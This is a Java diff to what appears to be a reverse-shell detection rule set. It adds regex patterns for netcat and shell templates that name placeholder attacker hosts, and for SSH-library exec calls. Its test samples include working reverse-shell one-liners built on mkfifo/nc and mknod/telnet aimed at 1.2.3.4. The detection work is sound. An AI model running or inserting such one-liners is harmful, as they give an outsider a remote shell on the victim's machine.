@@ -28,7 +28,8 @@ final class ReverseShellRules {
   private static final Pattern TEMPLATE =
       Pattern.compile(
           "(?s)^(?:nc|ncat|netcat) (?:.* )?(?:(?:[LR]|YOUR_|ATTACKER_|TARGET_)?(?:HOST|IP)|ATTACKER|<[a-z _-]+>) (?:[LR]?PORT|<[a-z _-]+>)(?: .*)?$"
-              + "|.*/dev/(?:tcp|udp)/(?:[LR]|(?:YOUR|ATTACKER|TARGET|LISTENER|REMOTE)[_-])?(?:HOST|IP|ATTACKER|LISTENER)/.*",
+              + "|.*/dev/(?:tcp|udp)/(?:[LR]|(?:YOUR|ATTACKER|TARGET|LISTENER|REMOTE)[_-])?(?:HOST|IP|ATTACKER|LISTENER)/.*"
+              + "|(?:nc|ncat|netcat) (?:.* )?(?:/[a-z/]+/)?(?:(?:ba|z|da)?sh|cmd(?:\\.exe)?) (?:(?:your|the)[_-])?(?:attacker|listener)(?:[_-](?:ip|host))?",
           Pattern.CASE_INSENSITIVE);
 
   /** Neither an address nor a port: part of one, as rules that look for them have it. */
@@ -38,6 +39,11 @@ final class ReverseShellRules {
   /** What Markdown keeps at the end of a page: the names of functions, and where they link to. */
   private static final Pattern LINKS =
       Pattern.compile("(?:\\n\\[[^\\]\\n]+\\](?: [^:\\n]+)?: [^\\s]+(?=\\n)){3}");
+
+  /** Commands of a machine that somebody has logged in to, as libraries for it are used. */
+  private static final Pattern LOGGED_IN =
+      Pattern.compile(
+          "(?s)net\\.(?:(?!child_process|spawn\\().)*\\b(?:conn(?:ection)?|client|ssh)[0-9]*\\.exec\\(");
 
   static final List<Rule> ALL =
       List.of(
@@ -167,6 +173,7 @@ final class ReverseShellRules {
                   "mknod /tmp/p p && telnet 1.2.3.4 80 0</tmp/p | /bin/bash 1>/tmp/p",
                   "mkfifo /tmp/q; nc 1.2.3.4 9001 0</tmp/q | /bin/sh >/tmp/q 2>&1")
               .ignores(
+                  "const s = new net.Socket(); s.pipe(t).pipe(s); conn.exec('uptime', f)",
                   "/dev/tcp/host/port",
                   "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
                   "exec 3<>/dev/tcp/www.example.com/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3",
@@ -186,6 +193,9 @@ final class ReverseShellRules {
   private static Check.Verdict callsNobody(String match) {
     if (TEMPLATE.matcher(match).matches()) {
       return Check.Verdict.PLACEHOLDER;
+    }
+    if (LOGGED_IN.matcher(match).matches()) {
+      return Check.Verdict.LOOKALIKE;
     }
     return CALLS_NOBODY.matcher(match).matches() || LINKS.matcher(match).find()
         ? Check.Verdict.DOUBTFUL
